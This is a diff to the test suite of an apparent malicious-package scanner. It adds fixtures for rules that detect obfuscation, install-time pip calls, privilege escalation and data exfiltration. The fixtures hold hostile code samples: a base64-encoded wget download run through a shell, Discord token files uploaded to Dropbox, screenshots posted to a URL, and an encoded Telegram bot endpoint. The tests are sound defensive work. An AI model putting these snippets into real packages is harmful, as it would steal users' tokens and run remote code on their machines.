@@ -3,21 +3,29 @@
 
 from __future__ import annotations
 
+import base64
+
 from tests.analysis.builders import run_rule, sdist, wheel, zip_bytes
 from threatfeed.analysis import Engine
 from threatfeed.analysis.rules.concealment import (
     agent_instruction_injection_rule,
     disguised_code_archive_rule,
+    encoded_exfiltration_endpoint_rule,
     install_time_package_install_rule,
     privilege_escalation_rule,
 )
+from threatfeed.analysis.rules.correlation import data_exfiltration_rule
 from threatfeed.analysis.rules.obfuscation import obfuscated_code_rule
-from threatfeed.analysis.rules.signature_rules import executes_code_at_remote_url_rule
+from threatfeed.analysis.rules.signature_rules import (
+    decode_and_execute_rule,
+    executes_code_at_remote_url_rule,
+)
 
 HIDDEN_MODULES = zip_bytes(
     {
         "__main__.py": "",
-        "helpers.py": "import urllib.request\n\ndef fetch(u):\n    return urllib.request.urlopen(u)\n",
+        "helpers.py": "import urllib.request\n\ndef fetch(u):\n"
+        "    return urllib.request.urlopen(u)\n",
     }
 )
 LOADER = (
@@ -51,6 +59,7 @@ def test_archives_under_archive_names_and_real_certificates_are_not_disguised(
             "webkit/vendor.whl": HIDDEN_MODULES,
             "webkit/server.crt": pem,
             "webkit/data.bin": zip_bytes({"table.csv": "a,b\n1,2\n"}),
+            "webkit/test_data/cpython-3.11.runtime": HIDDEN_MODULES,
         }
     )
     assert run_rule(engine, disguised_code_archive_rule, archive) is None
@@ -85,6 +94,25 @@ def test_pip_outside_install_time_and_other_setup_commands_are_not_reported(
     helper += "    subprocess.run([sys.executable, '-m', 'pip', 'install', name])\n"
     archive = sdist({"tidy_strings/deps.py": helper}, setup_py=setup_py)
     assert run_rule(engine, install_time_package_install_rule, archive) is None
+    release = (
+        "import os, sys\nfrom setuptools import setup\n\n"
+        "if sys.argv[-1] == 'publish':\n"
+        "    os.system('python -m pip install --upgrade twine')\n"
+        "    os.system('python -m twine upload dist/*')\n"
+        "    sys.exit()\n"
+        "setup(name='tidy-strings', version='0.4.0')\n"
+    )
+    assert run_rule(engine, install_time_package_install_rule, sdist(setup_py=release)) is None
+
+
+def test_pip_install_guarded_by_the_install_command_still_counts(engine: Engine) -> None:
+    setup_py = (
+        "import os, sys\nfrom setuptools import setup\n\n"
+        "if 'install' in sys.argv:\n"
+        "    os.system('pip install colour-helper')\n"
+        "setup(name='tidy-strings', version='0.4.0')\n"
+    )
+    assert run_rule(engine, install_time_package_install_rule, sdist(setup_py=setup_py))
 
 
 UAC = (
@@ -97,13 +125,17 @@ UAC = (
 
 
 def test_hijacking_an_auto_elevating_program_flags(engine: Engine) -> None:
-    archive = sdist({"tidy_strings/core.py": UAC, "tidy_strings/__init__.py": "from . import core\n"})
+    archive = sdist(
+        {"tidy_strings/core.py": UAC, "tidy_strings/__init__.py": "from . import core\n"}
+    )
     assert run_rule(engine, privilege_escalation_rule, archive)
     assert engine.analyze(archive).flagged
 
 
 def test_opening_windows_settings_is_not_an_elevation(engine: Engine) -> None:
-    settings = "import os\n\ndef open_display_settings():\n    os.startfile('ms-settings:display')\n"
+    settings = (
+        "import os\n\ndef open_display_settings():\n    os.startfile('ms-settings:display')\n"
+    )
     associations = "HANDLER = r'Software\\Classes\\txtfile\\shell\\open\\command'\n"
     archive = sdist({"tidy_strings/win.py": settings + associations})
     assert run_rule(engine, privilege_escalation_rule, archive) is None
@@ -149,7 +181,8 @@ MATH_NAMES = (
     "import os, subprocess, tempfile\n"
     "\U0001d5fc\U0001d605 = os\n"
     "\U0001d621\U0001d633\U0001d62d = 'https://x.example.net/tool.bin'\n"
-    "\U0001d629\U0001d62a\U0001d62d\U0001d626 = \U0001d5fc\U0001d605.path.join(tempfile.gettempdir(), 'tool')\n"
+    "\U0001d629\U0001d62a\U0001d62d\U0001d626 = "
+    "\U0001d5fc\U0001d605.path.join(tempfile.gettempdir(), 'tool')\n"
     "\U0001d634\U0001d636\U0001d623(\U0001d629\U0001d62a\U0001d62d\U0001d626)\n"
 )
 
@@ -157,7 +190,8 @@ MATH_NAMES = (
 def test_names_spelled_in_mathematical_letters_are_obfuscation(engine: Engine) -> None:
     archive = sdist({"tidy_strings/run.py": MATH_NAMES})
     evidence = run_rule(engine, obfuscated_code_rule, archive)
-    assert evidence and "mathematical letters" in str(evidence)
+    assert evidence
+    assert "mathematical letters" in str(evidence)
 
 
 def test_fancy_letters_in_strings_are_not_obfuscation(engine: Engine) -> None:
@@ -183,3 +217,94 @@ def test_exec_of_a_response_into_a_namespace_runs_downloaded_code(engine: Engine
     assert run_rule(engine, executes_code_at_remote_url_rule, archive)
     local = sdist({"tidy_strings/version_reader.py": version})
     assert run_rule(engine, executes_code_at_remote_url_rule, local) is None
+
+
+ENCODED_WGET = "d2dldCAtcU8gL3RtcC94IGh0dHBzOi8veC5leGFtcGxlLm5ldC94"  # wget -qO /tmp/x https://...
+
+
+def test_running_a_command_decoded_from_base64_flags(engine: Engine) -> None:
+    code = (
+        "import base64, subprocess\n\n"
+        "def d(s):\n    return base64.b64decode(s).decode()\n\n"
+        f"subprocess.run(d('{ENCODED_WGET}'), shell=True)\n"
+    )
+    archive = sdist({"tidy_strings/proc.py": code})
+    assert run_rule(engine, decode_and_execute_rule, archive)
+    assert engine.analyze(archive).flagged
+
+
+def test_an_encoded_command_that_nothing_runs_is_not_decode_and_execute(engine: Engine) -> None:
+    data = f"SAMPLES = ['{ENCODED_WGET}']\n"
+    runner = "import base64, subprocess\nsubprocess.run(['git', 'status'])\n"
+    archive = sdist({"tidy_strings/samples.py": data, "tidy_strings/runner.py": runner})
+    assert run_rule(engine, decode_and_execute_rule, archive) is None
+
+
+def test_code_that_deletes_its_own_file_is_reported(engine: Engine) -> None:
+    code = "import os\n\ndef setup_colors():\n    os.remove(os.path.abspath(__file__))\n"
+    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/colors.py": code}))
+    assert evidence
+    assert "deletes its own file" in str(evidence)
+    cleanup = "import os\n\ndef clean(tmp_path):\n    os.remove(tmp_path)\n"
+    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/clean.py": cleanup}))
+    assert evidence is None
+
+
+def test_builtins_spelled_as_character_codes_are_obfuscation(engine: Engine) -> None:
+    code = (
+        "_ = ''.join\n"
+        "codes = [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]\n"
+        "loader = __builtins__.get(_([chr(c) for c in codes]))\n"
+    )
+    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/inset.py": code}))
+    assert evidence
+    assert "list of character codes" in str(evidence)
+    greeting = (
+        "GREETING = bytes([72, 101, 108, 108, 111]).decode()\nMAGIC = [101, 120, 101, 99, 1]\n"
+    )
+    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/hello.py": greeting}))
+    assert evidence is None
+
+
+def test_screenshots_sent_away_are_exfiltration(engine: Engine) -> None:
+    code = (
+        "import requests\nfrom PIL import ImageGrab\n\n"
+        "def report(url):\n"
+        "    ImageGrab.grab().save('c.png')\n"
+        "    requests.post(url, files={'file': open('c.png', 'rb')})\n"
+    )
+    archive = sdist({"tidy_strings/report.py": code})
+    assert run_rule(engine, data_exfiltration_rule, archive)
+    local = code.replace("    requests.post(url, files={'file': open('c.png', 'rb')})\n", "")
+    assert (
+        run_rule(engine, data_exfiltration_rule, sdist({"tidy_strings/report.py": local})) is None
+    )
+
+
+def test_tokens_uploaded_to_a_cloud_drive_are_exfiltration(engine: Engine) -> None:
+    code = (
+        "import dropbox, os\n\n"
+        "client = dropbox.Dropbox(os.environ['DBX'])\n"
+        "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
+        "client.files_upload(open(path, 'rb').read(), '/loot')\n"
+    )
+    archive = sdist({"tidy_strings/sync.py": code})
+    assert run_rule(engine, data_exfiltration_rule, archive)
+    backup = "import dropbox\n\ndef backup(token, data):\n"
+    backup += "    dropbox.Dropbox(token).files_upload(data, '/backup.db')\n"
+    assert run_rule(engine, data_exfiltration_rule, sdist({"tidy_strings/b.py": backup})) is None
+
+
+def test_a_bot_url_spelled_in_base64_is_an_exfiltration_endpoint(engine: Engine) -> None:
+    bot = base64.b64encode(b"https://api.telegram.org/bot123456789:AAexample/sendMessage")
+    site = base64.b64encode(b"https://docs.example.org/api/v2")
+    archive = sdist({"tidy_strings/b.py": f"A = '{bot.decode()}'\nB = '{site.decode()}'\n"})
+    evidence = run_rule(engine, encoded_exfiltration_endpoint_rule, archive)
+    assert evidence == [
+        {
+            "file": "tidy-strings-0.4.0/tidy_strings/b.py",
+            "urls": ["https://api.telegram.org/bot123456789:AAexample/sendMessage"],
+        }
+    ]
+    plain = sdist({"tidy_strings/b.py": f"B = '{site.decode()}'\n"})
+    assert run_rule(engine, encoded_exfiltration_endpoint_rule, plain) is None
